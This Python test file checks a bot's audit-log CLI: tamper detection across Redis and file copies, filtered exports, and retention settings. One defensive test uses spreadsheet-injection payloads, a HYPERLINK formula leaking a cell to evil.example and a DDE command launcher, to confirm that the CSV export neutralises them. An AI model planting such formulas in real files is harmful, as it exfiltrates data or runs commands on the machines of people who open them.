"""`wizard audit verify` and `wizard audit export`, run in-process against a real Redis."""

from __future__ import annotations

import asyncio
import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis.asyncio as redis

from bot import cli
from bot.audit import anchor
from bot.audit.log import AuditLog
from bot.logs import configure_logging
from bot.settings import ConfigError, load_settings
from bot.store import keys
from bot.store.embedded import EmbeddedRedis


@pytest.fixture
def env(
    redis_server: EmbeddedRedis, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """The CLI's environment: the test Redis and a data dir of its own; yields the audit dir."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("REDIS_URL", redis_server.url)
    monkeypatch.setenv("WIZARD_DATA_DIR", str(tmp_path / "data"))
    yield tmp_path / "data" / "audit"
    configure_logging("WARNING")  # main() pointed logging at this test's captured stderr


async def wizard(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    """Run `wizard audit ...` in a thread (it calls asyncio.run) and parse its JSON output."""
    capsys.readouterr()
    code = await asyncio.to_thread(cli.main, ["audit", *args])
    return code, json.loads(capsys.readouterr().out)


async def seed(client: redis.Redis, audit_dir: Path, n: int = 4) -> list[dict[str, Any]]:
    """Records as the bot writes them: keyed and checkpointed with the data dir's audit key."""
    data_dir = audit_dir.parent
    audit = AuditLog(
        client,
        audit_dir,
        key=anchor.key_for(None, data_dir),
        checkpoints=anchor.checkpoints_path(data_dir),
    )
    return [await audit.append("triage", i=i) for i in range(n)]


def rewrite_file(audit_dir: Path, edit: Any) -> None:
    (path,) = audit_dir.glob("audit-*.jsonl")
    lines = path.read_text().splitlines()
    path.write_text("\n".join(edit(lines)) + "\n")


async def test_intact_trail_exits_0(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await seed(redis_client, env)
    for source in ("redis", "file", "both"):
        code, report = await wizard(capsys, "verify", "--source", source)
        assert code == 0, report
        assert report["ok"] is True and report["first_problem"] is None
    assert report["redis"]["checked"] == 4 and report["file"]["checked"] == 4


async def test_edited_file_line_is_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    rewrite_file(env, lambda lines: [line.replace('"i":2', '"i":7') for line in lines])
    code, report = await wizard(capsys, "verify", "--source", "file")
    assert code == 1
    assert report["first_problem"]["reason"] == "modified"
    assert report["first_problem"]["id"] == records[2]["id"]
    assert report["file"]["checked"] == 2
    code, report = await wizard(capsys, "verify", "--source", "both")
    assert code == 1 and report["redis"]["broken"] is None


async def test_reordered_file_lines_are_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    rewrite_file(env, lambda lines: [lines[0], lines[2], lines[1], lines[3]])
    code, report = await wizard(capsys, "verify", "--source", "file")
    assert code == 1
    assert report["first_problem"]["reason"] == "reordered"
    assert report["first_problem"]["hash"] == records[2]["hash"]


async def test_xdel_from_stream_is_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    await redis_client.xdel(keys.AUDIT_STREAM, records[1]["id"])
    code, report = await wizard(capsys, "verify", "--source", "redis")
    assert code == 1
    assert report["first_problem"]["reason"] == "missing_before"
    assert report["first_problem"]["id"] == records[2]["id"]
    code, report = await wizard(capsys, "verify", "--source", "both")
    assert code == 1
    assert report["file"]["broken"] is None
    assert report["mismatch"]["reason"] == "missing_in_redis"
    assert report["mismatch"]["hash"] == records[1]["hash"]


async def test_last_record_cut_from_stream_is_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    await redis_client.xdel(keys.AUDIT_STREAM, records[-1]["id"])
    code, report = await wizard(capsys, "verify", "--source", "redis")
    assert code == 1
    assert report["first_problem"]["reason"] == "missing_after"
    assert report["first_problem"]["id"] == records[-2]["id"]


async def test_deleted_head_key_is_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await seed(redis_client, env, n=2)
    await redis_client.delete(keys.AUDIT_HEAD)
    code, report = await wizard(capsys, "verify", "--source", "redis")
    assert code == 1 and report["first_problem"]["reason"] == "head_missing"


async def test_record_deleted_from_both_copies_is_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    await redis_client.xdel(keys.AUDIT_STREAM, records[1]["id"])
    rewrite_file(env, lambda lines: [lines[0], *lines[2:]])
    code, report = await wizard(capsys, "verify", "--source", "both")
    assert code == 1
    assert report["mismatch"] is None  # the copies agree, but the chain has a hole in each
    assert report["redis"]["broken"]["id"] == records[2]["id"]
    assert report["file"]["broken"]["id"] == records[2]["id"]


async def test_copies_that_differ_are_detected(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = await seed(redis_client, env)
    rewrite_file(env, lambda lines: lines[:-1])  # the last line removed cleanly
    code, report = await wizard(capsys, "verify", "--source", "file")
    assert code == 0  # the file alone cannot see a record cut from its end
    code, report = await wizard(capsys, "verify", "--source", "both")
    assert code == 1
    assert report["first_problem"] == {
        "copy": "both",
        "id": records[-1]["id"],
        "hash": records[-1]["hash"],
        "reason": "missing_in_file",
    }


async def test_verify_file_needs_no_redis(
    redis_client: redis.Redis,
    env: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await seed(redis_client, env, n=2)
    monkeypatch.setenv("REDIS_URL", "redis://127.0.0.1:1")
    code, report = await wizard(capsys, "verify", "--source", "file")
    assert code == 0 and report["file"]["checked"] == 2


async def test_verify_on_a_missing_data_dir_says_so_and_starts_nothing(
    env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = tmp_path / "no-such-dir"
    monkeypatch.setenv("WIZARD_DATA_DIR", str(missing))
    for redis_url in ("redis://127.0.0.1:1", None):  # with REDIS_URL unset it would embed one
        if redis_url is None:
            monkeypatch.delenv("REDIS_URL")
        code, report = await wizard(capsys, "verify")
        assert code == 1 and report["ok"] is False
        assert f"WIZARD_DATA_DIR={missing} does not exist" in report["error"]
        assert not missing.exists()  # no embedded Redis was started there


async def test_verify_on_an_empty_trail_fails(
    redis_client: redis.Redis, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await asyncio.to_thread(env.mkdir, parents=True)
    for source in ("redis", "file", "both"):
        code, report = await wizard(capsys, "verify", "--source", source)
        assert code == 1, report
        assert "no audit records" in report["error"]
    await seed(redis_client, env, n=1)
    code, report = await wizard(capsys, "verify")
    assert code == 0 and "error" not in report


async def test_export_filters_by_time_and_thread(
    redis_client: redis.Redis, env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    audit = AuditLog(redis_client, env)
    rows = [
        ("2026-03-01T09:00:00+00:00", "C1:1700000000.0001", "U1"),
        ("2026-03-01T10:00:00+00:00", "C1:1700000000.0001", "U2"),
        ("2026-03-01T10:30:00+00:00", "C2:1700000000.0002", "U3"),
        ("2026-03-02T10:00:00+00:00", "C1:1700000000.0001", "U4"),
    ]
    for at, thread, actor in rows:
        await audit.append(
            "followup", at=at, thread=thread, actor=actor, model="m", cost_usd="0.01"
        )
    out = tmp_path / "exam"
    args = ["export", "--since", "2026-03-01T09:30:00Z", "--until", "2026-03-02T00:00:00"]
    code, report = await wizard(capsys, *args, "--out", str(out))
    assert code == 0
    assert report["records"] == 2 and report["chain_intact"] is True
    assert set(report["files"]) == {"jsonl", "csv", "md"}
    code, report = await wizard(capsys, *args, "--thread", "C1:1700000000.0001", "--out", str(out))
    assert code == 0 and report["records"] == 1
    lines = (out / "audit-export.jsonl").read_text().splitlines()
    assert [json.loads(line)["actor"] for line in lines] == ["U2"]
    with (out / "audit-export.csv").open(newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [(r["actor"], r["thread"], r["cost_usd"]) for r in table] == [
        ("U2", "C1:1700000000.0001", "0.01")
    ]
    assert table[0]["hash"] == json.loads(lines[0])["hash"]
    markdown = (out / "audit-export.md").read_text()
    assert "| at | kind | thread | actor |" in markdown
    assert json.loads(lines[0])["hash"] in markdown
    assert "U3" not in markdown


async def test_export_rejects_a_bad_time(env: Path) -> None:
    with pytest.raises(SystemExit) as exc:
        await asyncio.to_thread(
            cli.main, ["audit", "export", "--since", "yesterday", "--until", "2026-01-01"]
        )
    assert exc.value.code == 2


def test_retention_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("WIZARD_AUDIT_RETENTION_DAYS", raising=False)
    assert load_settings().audit_retention_days == 2557
    monkeypatch.setenv("WIZARD_AUDIT_RETENTION_DAYS", "0")
    with pytest.raises(ConfigError, match="WIZARD_AUDIT_RETENTION_DAYS"):
        load_settings()


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    """Alert and user text reach the export: a cell that a spreadsheet would run as a formula
    is written as text (leading apostrophe); the JSONL keeps the exact value."""
    from bot.audit.export import write_export

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    records = [{"at": "2026-03-01T09:00:00+00:00", "kind": "followup", "actor": hostile,
                "question": "+cmd|' /C calc'!A0", "thread": "C1:1.1", "hash": "ab"}]  # fmt: skip
    paths = write_export(records, tmp_path, header={})
    with paths["csv"].open(newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["actor"] == "'" + hostile
    assert row["thread"] == "C1:1.1"
    assert json.loads(paths["jsonl"].read_text())["actor"] == hostile
